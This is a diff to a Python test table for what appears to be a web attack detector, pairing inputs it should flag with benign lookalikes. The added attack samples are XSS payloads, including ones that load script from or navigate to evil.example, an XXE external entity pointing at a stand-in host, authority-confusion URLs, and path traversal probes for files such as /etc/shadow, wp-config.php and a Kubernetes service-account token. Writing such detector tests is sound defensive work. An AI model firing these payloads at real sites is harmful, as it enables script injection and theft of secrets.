@@ -40,7 +40,22 @@ CASES: tuple[Case, ...] = (
          "[].sort.call`${alert}1`", "[ ] . /**/ map . call ` ${x} `", "`${alert}`",
          # a handler in braces that calls or assigns is script, JSX-looking or not
          "<button onClick={alert(1)}>", "<img src=x onerror={location=name}>", "<a onmouseover= {top.alert`1`}>",
-         "(![]+[])[+!+[]]", "+!![]", "[+[]]", "a=(+[])", "'infoo.bar=1", '"in valueOf=x'),
+         "(![]+[])[+!+[]]", "+!![]", "[+[]]", "a=(+[])", "'infoo.bar=1", '"in valueOf=x',
+         # a sink used as a function value: wrapped, optionally called, .call/.apply/.bind, a callback
+         "(prompt)(document.domain)", "(0,eval)(name)", "x=alert?.(7)", "confirm.call(null,2)",
+         "prompt.apply(0,[3])",
+         "alert.bind(window,4)()", "alert.call`5`", "[7].find(alert)", "Promise.resolve(8).then(confirm)",
+         "Reflect.apply(prompt,null,[9])", "window.onerror=alert;throw 1", "onfocus=confirm",
+         "this['alert'](1)",
+         # script loaded or navigated to without a tag
+         "import('//evil.example/m.js')", 'import("https://evil.example/x.mjs")',
+         "new Function`alert\\`6\\``",
+         "location.href='//evil.example/?'+1", "opener.location='//evil.example'",
+         "parent.location.href = 'x'",
+         # tags a sanitizer strips, placed inside a handler name or a call
+         "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//", "on<b>mouse</b>over=x", "confirm<i>(1)",
+         # an XML entity declaration, and a comment closer as a whole value
+         '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">', "foo!ENTITY bar PUBLIC", "-->"),
         ("Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun",
          "the document (signed) cookie policy", "top [10] picks", "confirm (yes/no)",
          "I <3 this, a < b > c", "turn it on (online only)", "My config: ONBOOT=yes BOOTPROTO=dhcp", "Mr O'Brien onboarding=done", "a=1; onboarding=done", "x==online==y",
@@ -55,7 +70,13 @@ CASES: tuple[Case, ...] = (
          "'in' is a keyword; x in obj.keys",
          # JSX handler references name a function and call nothing
          "return <button onClick={onClick}>{label}</button>;", "<input onChange={this.handleChange} value={v} />",
-         "<li onMouseEnter={ props.onHover }>{item}</li>"),
+         "<li onMouseEnter={ props.onHover }>{item}</li>",
+         # sinks named in prose and code that does not hand them over; arrows; an entity diagram
+         "Severity (alert) (warning) and (info)", "confirm (yes) or cancel (no)", "the alert.level setting",
+         "parent.location is read by the frame", "location.href returns the page URL", "queue.put(alert)",
+         "cfg['alert'] = True", "levels: ['alert', 'info']", "import('./lazy.js')",
+         "Step 1 --> Step 2", "a <-- b --> c", "on <b>line</b> shop", "ENTITY relationships (SYSTEM design)",
+         "notify_on=alert"),
     ),
     Case(
         "PathTraversal",
@@ -63,9 +84,21 @@ CASES: tuple[Case, ...] = (
          "file=..\\pineapple", "page=../index", "..;/admin", "0x5c0x2e./", "0x2f0x2e0x2e0x2fx", "/sys/class",
          '--b\r\nContent-Disposition: form-data; name="f"; filename="../a.7z"\r\n\r\nx\r\n--b--\r\n',
          "..\u2215..\u2215etc\u2215passwd", "..%2f..%2fetc", "..%c0%af..%c0%afetc/hosts", "\\\\?\\C:\\x",
-         "\\\\attacker.example\\share\\x.dll", "WEB-INF/web.xml", "%uff0e%uff0e%u2215etc"),
+         "\\\\attacker.example\\share\\x.dll", "WEB-INF/web.xml", "%uff0e%uff0e%u2215etc",
+         # the same file through "./" and "//" steps; an administrative share on an IPv6 host
+         "/etc/./passwd", "/etc//shadow", "/proc/self/./environ", "\\\\::1\\c$\\users\\x\\ntuser.dat",
+         "\\\\[::1]\\admin$\\x", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+         # more of the files LFI probes read (a value that is a dotfile path: test_web_sets.py)
+         "/var/www/html/wp-config.php", "/opt/tomcat/conf/tomcat-users.xml",
+         "/etc/machine-id", "/proc/sched_debug", "/var/spool/cron/crontabs/root",
+         "/usr/local/etc/php/php.ini",
+         "/run/secrets/kubernetes.io/serviceaccount/token"),
         ("see ../docs/readme.md", "our share is \\\\fileserver\\reports", "web-inf folder docs", "3 ∕ 4 cup", "/etc is a directory name", "1/2 cup", "import x from '../utils'",
          "wait..; then go", "the /docs/../ path in prose", "ecosystem/classic", "0x2e is a dot",
+         'path = os.path.join(base, "..", "data")', "edit .git/config to add a remote",
+         "edit wp-config.php (it holds the keys)", "map \\\\nas\\backup$ as drive Z",
+         "/proc is a virtual filesystem",
+         "the environment variable", "run/secrets in compose docs",
          '--b\r\nContent-Disposition: form-data; name="f"; filename="report.v2.final.pdf"\r\n\r\nx\r\n--b--\r\n'),
     ),
     Case(
@@ -76,6 +109,16 @@ CASES: tuple[Case, ...] = (
         ("next=https://example.com/welcome", "what is https?", "base_url=https://cdn.example.com/",
          "return_to=https://example.com/account?tab=1", "open the file: report.pdf",
          "the jar: a glass container", "a file:/// link in prose"),
+    ),
+    Case(
+        "RemoteFileInclusionAuthority",
+        ("http://example.com%2f@evil.example/", "https://a.example%2f:pw@evil.example/x", "http://good.example%5c@evil.example/"),
+        ("https://medium.com/@ann/post", "https://example.com/a%2Fb@c", "mailto:ann%40example.com", "see https://example.com/x"),
+    ),
+    Case(
+        "RestrictedFileArgument",
+        ("backup.sql.zip", "db/dump.sql.gz", "site.bak.tar"),
+        ("backup.sql.zip restore guide", "backup.sql notes", "report.zip", "notes.sql.txt"),
     ),
     Case(
         "SSRF",
@@ -102,9 +145,10 @@ CASES: tuple[Case, ...] = (
     ),
     Case(
         "SessionCookieInBody",
-        ('{"jsessionid": "74B0CB41"}', '{ "phpsession":"foo" }', "PHPSESSID=abc", "ASPSESSIONIDQAQRCTBS=x"),
+        ('{"jsessionid": "74B0CB41"}', '{ "phpsession":"foo" }', "PHPSESSID=abc", "ASPSESSIONIDQAQRCTBS=x",
+         "sessionid=abc123"),
         ('{"session_id": "cs_test_a1"}', '{"sessionId": 4, "event": "page_view"}', "session: winter",
-         "possession=ball&assessment=final"),
+         "possession=ball&assessment=final", "my sessionid is abc"),
     ),
     Case(
         "SessionFixation",
